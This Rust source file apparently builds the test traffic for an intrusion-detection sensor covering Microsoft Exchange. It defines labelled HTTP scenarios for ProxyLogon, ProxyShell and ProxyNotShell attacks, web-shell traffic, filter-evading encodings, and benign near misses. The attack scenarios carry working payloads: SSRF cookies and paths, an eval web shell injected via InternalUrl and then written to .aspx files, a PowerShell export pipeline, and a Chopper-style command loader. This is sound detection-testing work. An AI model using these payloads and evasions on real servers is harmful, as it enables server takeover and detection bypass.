            ex(request("GET", "/ecp/b.js", &[("User-Agent", UA_EDGE), ("Cookie", "X-BEResource=localhost~12ab")], b""), response(200, "OK", &[("Content-Type", "application/javascript")], b"")),
            ex(request("GET", "/ecp/c.js", &[("User-Agent", UA_EDGE), ("Cookie", "X-BEResource=localhost~; X-AnonResource-Backend=localhost/ecp/default.flt")], b""), response(200, "OK", &[("Content-Type", "application/javascript")], b"")),
        ],
    ));
    v.push(near_miss(
        "nm-aspnet-client-static-and-ecp-json",
        "The stock /aspnet_client/system_web/4_0_30319/WebUIValidation.js, and an ECP JSON answer with OfflineAddressBooks and ExternalUrl after an .aspx page (not the shell's text dump).",
        vec![
            ex(request("GET", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[("Content-Type", "application/javascript")], b"function ValidatorUpdateDisplay(val){}")),
            ex(request("GET", "/ecp/default.aspx", &[("User-Agent", UA_EDGE), ("Cookie", &ecp_cookie_tail())], b""), response(200, "OK", &[("Content-Type", "text/html")], b"<html></html>")),
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &ecp_cookie_tail())], b"{}"), ecp_json_ok(DDI_GET_OAB_RESPONSE, true)),
        ],
    ));
}

/// Every scenario: attacks first (ProxyLogon, evasions and chains, ProxyShell/ProxyNotShell/
/// OWASSRF/ProxyToken, web shells), then benign traffic, then near misses.
pub fn scenarios() -> Vec<Scenario> {
    let mut v = Vec::new();
    proxylogon(&mut v);
    proxylogon_evasions(&mut v);
    proxyshell(&mut v);
    webshells(&mut v);
    benign_traffic(&mut v);
    near_misses(&mut v);
    later_evasions(&mut v);
    label_splits(&mut v);
    decoded_views(&mut v);
    v
}

/// Scenarios added after the first set: appended so that the earlier captures keep their
/// client addresses.
fn later_evasions(v: &mut Vec<Scenario>) {
    let chain = testanull_chain("/ecp/qkx.js");
    v.push(over(
        attack(
            "ev-forged-resets-proxylogon",
            "Stage 4 as pl-proxylogon-testanull, each request preceded by forged RSTs in the window but not at the expected sequence number (client +1460 and -1, server +1): the server ignores them, so must the sensor (§10).",
            vec![chain[3].clone()],
            &[PL_BERESOURCE, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_OK_BETARGET, PL_OK_241],
            &[CVE_2021_26855],
        ),
        Transport::ForgedResets,
    ));
}

/// Scenarios that pin the labels where ProxyShell and ProxyNotShell send the same request and
/// only authentication tells them apart (§1.5, §4.1): appended so that the earlier captures keep
/// their client addresses.
fn label_splits(v: &mut Vec<Scenario>) {
    let zdi_url = "/autodiscover/autodiscover.json?@zdi/PowerShell?serializationLevel=Full;ExchClientVer=15.2.922.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@zdi";
    let basic = "Basic am9obkBjb250b3NvLmNvbTpTdW1tZXIyMDIyIQ==";
    v.push(attack(
        "ps-powershell-unauthenticated",
        "The ZDI request of pns-zdi-basic-auth without credentials (no Authorization header, no session cookie): /autodiscover/autodiscover.json?@zdi/PowerShell?...&Email=autodiscover/autodiscover.json%3F@zdi, proxied to the back end (X-CalculatedBETarget, 200). Unauthenticated, so it is ProxyShell's SSRF: CVE-2021-34473 only, not CVE-2022-41040 (§1.5, §3.3, §4.1, S-ZDI-PNS).",
        vec![ex(
            request("GET", zdi_url, &[("User-Agent", UA_CHROME88)], b""),
            response(200, "OK", &[("Content-Type", "application/soap+xml;charset=UTF-8"), ("X-CalculatedBETarget", "ex01.contoso.local")], b""),
        )],
        &[PS_EMAIL_QUERY, PS_POWERSHELL, PS_OK_BETARGET],
        &[CVE_2021_34473],
    ));
    let session = format!(
        "Email=autodiscover/autodiscover.json?a=john@contoso.com; ClientId=77D1A3B5C7E94F0B8A2C4E6F8A0B2C4D; cadata=Vm0wd2QyUXlVWGxWV0d4V1YwZDRWMVl3WkRSV01WbDNXa1JTVjAxV2JETlhhMUpUVmpBeFYySkVUbGhoTVVwVVZtcEJlRll5U2tWVQ; cadataTTL=NfbS1bKMA; cadataKey=qUq2a; cadataIV=Aw3mZ; cadataSig=Jr8xY; {BACKEND_COOKIE}"
    );
    v.push(attack(
        "pns-owa-session-cookie",
        "ProxyNotShell by a user authenticated with an OWA forms-logon session instead of an Authorization header (derived: any mailbox user, §4.1; the session cookies, §6): POST /autodiscover/autodiscover.json?a=john@contoso.com/powershell with Cookie Email=autodiscover/autodiscover.json?a=john@contoso.com and the cadata* cookies; the back end creates the shell. Authenticated, so CVE-2022-41040 only (§1.5, §4.1, §6).",
        vec![ex(
            request("POST", "/autodiscover/autodiscover.json?a=john@contoso.com/powershell", &[("User-Agent", UA_CHROME88), ("Cookie", &session), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_create("https://mail.contoso.com/powershell")),
            wsman_created_response(),
        )],
        &[PNS_EMAIL_COOKIE, PNS_POWERSHELL, PNS_OK_SHELL, PNS_OK_BETARGET],
        &[CVE_2022_41040],
    ));
    v.push(attack(
        "pns-retry-after-proxyshell-401",
        "One keep-alive connection: the unauthenticated ProxyShell request to back-end PowerShell gets the 401 of a server patched for CVE-2021-34473; the client retries with Basic credentials (ProxyNotShell) and the back end creates the shell, so the success alerts name CVE-2022-41040 and not CVE-2021-34473 (§3.3, §4.1, S-ZDI-PNS).",
        vec![
            ex(
                request("GET", zdi_url, &[("User-Agent", UA_CHROME88)], b""),
                response(401, "Unauthorized", &[("WWW-Authenticate", "Basic realm=\"mail.contoso.com\""), ("X-CalculatedBETarget", "ex01.contoso.local")], b""),
            ),
            ex(
                request("POST", zdi_url, &[("User-Agent", UA_CHROME88), ("Authorization", basic), ("Content-Type", "application/soap+xml;charset=UTF-8")], &wsman_create("https://mail.contoso.com/powershell")),
                wsman_created_response(),
            ),
        ],
        &[PS_EMAIL_QUERY, PS_POWERSHELL, PNS_EMAIL_QUERY, PNS_POWERSHELL, PNS_OK_SHELL, PNS_OK_BETARGET],
        &[CVE_2021_34473, CVE_2022_41040],
    ));
    let pns_path = "/autodiscover/admin@localhost//powershell/autodiscover.json?x=a";
    let ntlm = |auth: Option<&'static str>| {
        let mut h = vec![
            ("User-Agent", "curl/7.88.1"),
            ("Cookie", "Email=autodiscover/admin@localhost"),
            ("Content-Type", "application/soap+xml;charset=UTF-8"),
        ];
        if let Some(a) = auth {
            h.insert(1, ("Authorization", a));
        }
        h
    };
    let gadget = create_pipeline_xml(
        "New-OfflineAddressBook",
        &[("ErrorAction", "")],
        &gadget_arg_xml(),
    );
    v.push(attack(
        "pns-ntlm-connection-auth",
        "ProxyNotShell, testanull's form with a real NTLM handshake as curl --ntlm does it: Type 1 (401 with the challenge), Type 3 with the Create shell (ResourceCreated), then the CVE-2022-41082 gadget with no Authorization header, because NTLM authenticates the connection: still CVE-2022-41040, not CVE-2021-34473 (§1.5, §4.1, §4.2, S-TA-PNS).",
        vec![
            ex(
                request("POST", pns_path, &ntlm(Some("NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw==")), b""),
                response(401, "Unauthorized", &[("WWW-Authenticate", "NTLM TlRMTVNTUAACAAAADAAMADgAAAAFgomiESIzRFVmd4gAAAAAAAAAAIoAigBEAAAACgBhSgAAAA9DAE8ATgBUAE8AUwBPAAIADABDAE8ATgBUAE8AUwBPAAEACABFAFgAMAAxAAQAIABjAG8AbgB0AG8AcwBvAC4AbABvAGMAYQBsAAMAKgBFAFgAMAAxAC4AYwBvAG4AdABvAHMAbwAuAGwAbwBjAGEAbAAAAAAA")], b""),
            ),
            ex(
                request("POST", pns_path, &ntlm(Some("NTLM TlRMTVNTUAADAAAAGAAYAFgAAAAYABgAcAAAAAAAAABIAAAACAAIAEgAAAAIAAgAUAAAAAAAAACIAAAANYKI4mpvaG5XUzAxpZ8WhzmcvwDeJ4Lye0Qq3Pf3cQMhVbHG")), &wsman_create("http://127.0.0.1:80/powershell")),
                wsman_created_response(),
            ),
            ex(
                request("POST", pns_path, &ntlm(None), &wsman_command("http://127.0.0.1:80/powershell", "New-OfflineAddressBook", 6, &gadget)),
                wsman_command_response(),
            ),
        ],
        &[PNS_EMAIL_COOKIE, PNS_POWERSHELL, PNS_GADGET, PNS_OK_SHELL, PNS_OK_BETARGET],
        &[CVE_2022_41040, CVE_2022_41082],
    ));
}

/// Deterministic filler bytes (xorshift), for ciphertext-shaped payloads.
fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// Every 7th character of `text` written as an XML character reference (`&#84;`), which an XML
/// parser reads back as the character.
fn xml_char_refs(text: &str) -> String {
    text.chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 7 == 3 {
                format!("&#{};", u32::from(c))
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// Forms the server decodes before its code reads them (JSON escapes of every kind, XML
/// character references, `%uXXXX` in a form, percent-escapes in the SSRF cookie's back-end
/// URL), forms that need a rule to know where the server reads a marker, and benign requests
/// that carry the markers where the server does not read them (signatures/README.md, "Where
/// each family's code reads, and how it decodes"). Appended so that the earlier captures keep
/// their client addresses.
fn decoded_views(v: &mut Vec<Scenario>) {
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    // ProxyLogon stage 6 with every JSON escape WCF's serializer undoes: the member name, the
    // slashes, 'r' of runat, the quotes; the members in another order; InternalUrl, not
    // ExternalUrl (any URL property of the directory is written to the file, §2.7).
    let body = format!(
        "{{ \"properties\" : {{ \"Parameters\" : {{ \"Intern\\u0061lUrl\" : \"http:\\/\\/f\\/\\u003cscript language=\\u0022JScript\\u0022 \\u0072unat=\\u0022server\\u0022\\u003efunction Page_Load(){{eval(Request[\\u0022q\\u0022],\\u0022unsafe\\u0022);}}\\u003c\\/script\\u003e\", \"__type\" : \"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\" }} }},\n  \"identity\" : {{ \"__type\" : \"Identity:ECP\", \"RawIdentity\" : \"{OAB_ID}\" }} }}"
    );
    v.push(attack(
        "pl-setobject-json-escapes-internalurl",
        "Stage 6 through the SSRF cookie with the script in InternalUrl, every character class JSON-escaped (\\u0061 in the member name, \\/ slashes, \\u0072unat, \\u0022 quotes, \\u003c), members reordered and spaced: WCF's JSON reader undoes all of it (§2.7, §10.1 item 13).",
        vec![ex(
            request("POST", "/ecp/kq.js", &[("User-Agent", UA_CHROME88), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", "S-1-5-20")], body.as_bytes()),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "pl-reset-escaped-path-and-cookie",
        "Stage 7 through the SSRF cookie with the back-end URL percent-encoded inside the cookie (schema=%52eset%4FABVirtualDirectory; the back end decodes its URL) and FilePathName written with \\u005c for every backslash and \\u002e for the dots (§2.8, §10.1 items 13, 14).",
        vec![ex(
            request("POST", "/ecp/kq.js", &[("User-Agent", UA_CHROME88), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=%52eset%4FABVirtualDirectory&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", "S-1-5-20")], &reset_body(r"\u005c\u005c127\u002e0\u002e0\u002e1\u005cc$\u005cProgram Files\u005cMicrosoft\u005cExchange Server\u005cV15\u005cFrontEnd\u005cHttpProxy\u005cowa\u005cauth\u005ckqzv\u002easpx")),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_RESET, PL_27065_SSRF_PATH, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "pl-27065-authenticated-aspx-block",
        "CVE-2021-27065 with stolen credentials, the script as an ASP.NET code block (<%...%>, escaped \\u003C\\u0025) in InternalUrl, then a reset to a path ending in '.aspx.' (Windows drops the trailing dot) (§2.7, §2.8).",
        vec![
            ex(
                request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"InternalUrl\":\"http://f/\\u003C\\u0025@ Page Language=\\u0022Jscript\\u0022\\u0025\\u003E\\u003C\\u0025eval(Request.Item[\\u0022k\\u0022],\\u0022unsafe\\u0022);\\u0025\\u003E\"}}}}}}").as_bytes()),
                ecp_json_ok(DDI_SET_OK, false),
            ),
            ex(
                request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={CANARY}&schema=ResetOABVirtualDirectory"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r#"C:/inetpub/wwwroot/aspnet_cl\u0069ent/help.aspx."#)),
                ecp_json_ok(DDI_SET_OK, false),
            ),
        ],
        &[PL_27065_AUTH_SCRIPT, PL_27065_AUTH_PATH],
        &[CVE_2021_27065],
    ));
    // ProxyShell's export with the PSRP base64 text broken up by XML character references: the
    // WinRM XML reader puts it back together before the base64 is decoded.
    let export = wsman_command(
        "http://127.0.0.1:80/powershell",
        "",
        9,
        &export_pipeline(
            "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\wqxzlpmvnkrtcyeo.aspx",
        ),
    );
    let export = String::from_utf8(export).unwrap_or_default();
    let export = match (
        export.find("<rsp:Arguments>"),
        export.find("</rsp:Arguments>"),
    ) {
        (Some(a), Some(b)) => {
            let start = a + "<rsp:Arguments>".len();
            format!(
                "{}{}{}",
                &export[..start],
                xml_char_refs(&export[start..b]),
                &export[b..]
            )
        }
        _ => export,
    };
    v.push(attack(
        "ps-powershell-export-xml-charrefs",
        "ProxyShell stage 7 (dmaasland route: Email cookie, X-Rps-CAT in the query) whose <rsp:Arguments> base64 has every 7th character written as an XML character reference (&#84;...): the XML reader restores the text before PSRP decodes it, so the cmdlet name is there in all three base64 alignments only after xml_decode (§3.2 item 7, §10.2 item 22).",
        vec![ex(
            request("POST", &format!("/autodiscover/autodiscover.json?a={PS_ID}/powershell/?X-Rps-CAT={}", rps_cat()), &[("User-Agent", "Python PSRP Client"), ("Cookie", &format!("Email=autodiscover/autodiscover.json?a={PS_ID}")), ("Content-Type", "application/soap+xml;charset=UTF-8")], export.as_bytes()),
            wsman_command_response(),
        )],
        &[PS_EMAIL_COOKIE, PS_RPS_CAT, PS_EXPORT, PS_POWERSHELL, UA_PYPSRP],
        &[CVE_2021_31207, CVE_2021_34473, CVE_2021_34523],
    ));
    // A Chopper-protocol client whose first layer decodes its code from hex (the shape of
    // AntSword's hex encoder), with 'eval' sent as %u0065val: ASP.NET's form decoding takes
    // %uXXXX; Suricata's url_decode does not.
    let inner: String = "Response.Write(\"->|\");var c=new System.Diagnostics.ProcessStartInfo(\"cmd\");Response.Write(\"|<-\");"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    let first = form_encode("var c=Request.Item[\"k1\"];var s=\"\";for(var i=0;i<c.length;i+=2){s+=String.fromCharCode(parseInt(c.substr(i,2),16));}eval(s,\"unsafe\");")
        .replace("eval", "%u0065val");
    v.push(attack(
        "ws-chopper-hex-encoder-u-escapes",
        "A Chopper-protocol client (AntSword-style hex encoder: the first layer turns hex into code, no FromBase64String, no ->| in the request) to /owa/auth/Current/themes/resources/logon.aspx, with eval sent as %u0065val (ASP.NET's form decoding takes %uXXXX) (§7.1, §7.2, §10.3 item 24).",
        vec![ex(request("POST", "/owa/auth/Current/themes/resources/logon.aspx", &[("User-Agent", UA_EDGE), form], format!("ant={first}&k1={inner}").as_bytes()), chopper_response())],
        &[WS_CHOPPER, WS_AUTH_FOLDER, WS_OK_CHOPPER],
        &[],
    ));
    // A Godzilla-style encrypted shell (what the wire shows of it: one form field of base64
    // ciphertext in, 16 hex + base64 + 16 hex out).
    let request_ct = base64(&noise(0x9e37_79b9, 96));
    let answer = format!(
        "3C6E0B8A9C15224A{}B1D0E2A4F7C3E9D5",
        base64(&noise(0x7f4a_7c15, 48))
    );
    v.push(attack(
        "ws-godzilla-style-aspnet-client",
        "An encrypted web shell in the Godzilla style at /aspnet_client/system_web/errorFS.aspx: the request is one form field whose value is base64 ciphertext, the answer is 16 hex characters, base64 ciphertext and 16 hex characters (the MD5 framing), nothing else (§7, §10.3).",
        vec![
            ex(request("POST", "/aspnet_client/system_web/errorFS.aspx", &[("User-Agent", UA_EDGE), form, ("Cookie", "ASP.NET_SessionId=zq4m1vbx2c3n5k6j7h8g9f0d")], format!("pass={}", form_encode(&request_ct)).as_bytes()),
            response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], answer.as_bytes())),
        ],
        &[WS_ASPNET_CLIENT, WS_KNOWN_NAME, WS_OK_ENCRYPTED],
        &[],
    ));
    v.push(attack(
        "ev-cookie-email-second-line",
        "ProxyShell's NSPI check with the Email=autodiscover/ cookie on a second Cookie line: the path alone is the SSRF (4210204), and 4210706 says that the cookie counts only if HTTP.sys joins the lines with '; ' (§1.4, §3.1, §10.1 item 9).",
        vec![ex(
            request("GET", &format!("/autodiscover/autodiscover.json?a={PS_ID}/mapi/nspi/"), &[("User-Agent", UA_PYREQ), ("Cookie", "ClientId=77D1A3B5C7E94F0B8A2C4E6F8A0B2C4D"), ("Cookie", &format!("Email=autodiscover/autodiscover.json?a={PS_ID}"))], b""),
            nspi_page(true),
        )],
        &[PS_NSPI, PS_OK_NSPI, PS_OK_BETARGET, AN_COOKIE_LINES],
        &[CVE_2021_34473],
    ));
    // The shell is reached under a path no path rule knows and speaks no known protocol: only
    // the file name the write gave ties the request to it.
    v.push(attack(
        "ws-written-shell-any-path",
        "CVE-2021-27065 with stolen credentials resets the OAB directory into ECP's ReportingWebService folder (…\\ClientAccess\\ecp\\ReportingWebService\\QzvRwt.aspx), then the shell is requested as /ecp/ReportingWebService/qzvrwt.aspx?c=... with a command protocol of its own: no path rule and no protocol rule knows it, the file name the write gave does (xbits kept per server and file name) (§2.8, §2.9).",
        vec![
            ex(
                request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\ecp\\ReportingWebService\\QzvRwt.aspx")),
                ecp_json_ok(DDI_SET_OK, false),
            ),
            ex(
                request("GET", "/ecp/ReportingWebService/qzvrwt.aspx?c=d2hvYW1p", &[("User-Agent", UA_EDGE)], b""),
                response(200, "OK", &[("Content-Type", "text/plain")], b"bnQgYXV0aG9yaXR5XHN5c3RlbQ=="),
            ),
        ],
        &[PL_27065_AUTH_PATH, WS_WRITTEN_FILE],
        &[CVE_2021_27065],
    ));
    // Neo-reGeorg: the banner on a GET, then bodies that are nothing but base64 in a permuted
    // alphabet both ways (what its tunnel.aspx reads and writes, S-NEOREG).
    let permute = |text: &str| -> String {
        text.chars()
            .map(|c| match c {
                'A'..='Y' | 'a'..='y' => char::from(c as u8 + 1),
                'Z' => 'a',
                'z' => '0',
                '0'..='8' => char::from(c as u8 + 1),
                '9' => 'A',
                other => other,
            })
            .collect()
    };
    v.push(attack(
        "ws-neoregeorg-style-tunnel",
        "A Neo-reGeorg-style tunnel at /aspnet_client/system_web/tunnel.aspx: a GET answered with the NeoGeorg banner, then a CONNECT whose body is nothing but base64 in a permuted alphabet, answered the same way (§7.4; the tunnel's public source).",
        vec![
            ex(request("GET", "/aspnet_client/system_web/tunnel.aspx", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"NeoGeorg says, 'All seems fine'")),
            ex(
                request("POST", "/aspnet_client/system_web/tunnel.aspx", &[("User-Agent", UA_EDGE), ("Content-Type", "application/octet-stream")], permute(&base64(&noise(0x51ed_270b, 72))).as_bytes()),
                response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], permute(&base64(&noise(0x2545_f491, 33))).as_bytes()),
            ),
        ],
        &[WS_ASPNET_CLIENT, WS_OK_GEORG_BANNER, WS_OK_B64_TUNNEL],
        &[],
    ));
    v.push(near_miss(
        "nm-written-text-file-then-same-stem-page",
        "An administrator saves the OAB settings to a text file (oab-settings.aspx.txt) and later opens /ecp/oab-settings.aspx: the write named no ASP.NET file, so the page is not a written shell (§2.8).",
        vec![
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r"\\\\fs01.contoso.local\\backup\\oab-settings.aspx.txt")), ecp_json_ok(DDI_SET_OK, true)),
            ex(request("GET", "/ecp/oab-settings.aspx", &[("User-Agent", UA_EDGE), ("Cookie", &ecp_cookie_tail())], b""), not_found()),
        ],
    ));
    // Benign look-alikes: the markers where the server does not read them.
    v.push(near_miss(
        "nm-markers-in-query-and-one-cookie-line",
        "The markers where Exchange does not read them: an OWA logon redirect whose url= parameter holds ?autodiscover/powershell (the front end routes by the path, /owa/), an OWA search for \"X-Rps-CAT= autodiscover.json /powershell\" (a query value, not the X-Rps-CAT parameter), and a single Cookie line 'prefs=a, X-BEResource=localhost~1942062522, Email=autodiscover/x' (ASP.NET does not split on ',', so these are one cookie named prefs) (§1.4, §1.5, §10.1 item 6, §10.2 item 20).",
        vec![
            ex(request("GET", "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f%3fautodiscover%2fpowershell%26x%3d1&reason=0", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"<html><body>Outlook</body></html>")),
            ex(request("POST", "/owa/service.svc?action=FindItem&EP=1&ID=-12&AC=1&q=X-Rps-CAT%3D%20autodiscover.json%20%2Fpowershell", &[("User-Agent", UA_EDGE), ("Action", "FindItem"), ("X-OWA-CANARY", OWA_CANARY), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", OWA_COOKIES)], br#"{"__type":"FindItemJsonRequest:#Exchange","Body":{"QueryString":"X-Rps-CAT= autodiscover.json /powershell"}}"#), response(200, "OK", &[("Content-Type", "application/json; charset=utf-8")], b"{\"Body\":{\"ResponseMessages\":{\"Items\":[]}}}")),
            ex(request("GET", "/ecp/y.js", &[("User-Agent", UA_EDGE), ("Cookie", "prefs=a, X-BEResource=localhost~1942062522, Email=autodiscover/x; lang=en-US")], b""), response(200, "OK", &[("Content-Type", "application/javascript")], b"var a=1;")),
        ],
    ));
    v.push(near_miss(
        "nm-ecp-admin-escaped-urls-and-aspx-txt-backup",
        "An administrator in ECP sets InternalUrl with the escaped slashes .NET's serializer writes (https:\\/\\/ex01.contoso.local\\/OAB), a description quoting '<script>' in plain text without runat, and resets the directory saving settings to a UNC backup named oab-settings.aspx.txt (a text file, not a page) (§2.7, §2.8).",
        vec![
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"InternalUrl\":\"https:\\/\\/ex01.contoso.local\\/OAB\",\"Comment\":\"blocked \\u003cscript\\u003e tags in links\"}}}}}}").as_bytes()), ecp_json_ok(DDI_SET_OK, true)),
            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r"\\\\fs01.contoso.local\\backup\\oab-settings.aspx.txt")), ecp_json_ok(DDI_SET_OK, true)),
        ],
    ));
    v.push(near_miss(
        "nm-aspnet-single-base64-field",
        "An ASP.NET page posted a single form field of base64 (a __VIEWSTATE-only postback) and answered with an ordinary HTML page: the encrypted-shell request shape without the answer's framing.",
        vec![ex(
            request("POST", "/owa/auth/expiredpassword.aspx", &[("User-Agent", UA_EDGE), form], format!("__VIEWSTATE={}", form_encode(&base64(&noise(0x1234_5678, 60)))).as_bytes()),
            response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"<!DOCTYPE html><html><head><title>Outlook</title></head><body><form method=\"post\"><input type=\"password\" name=\"oldPwd\"></form></body></html>"),
        )],
    ));
}
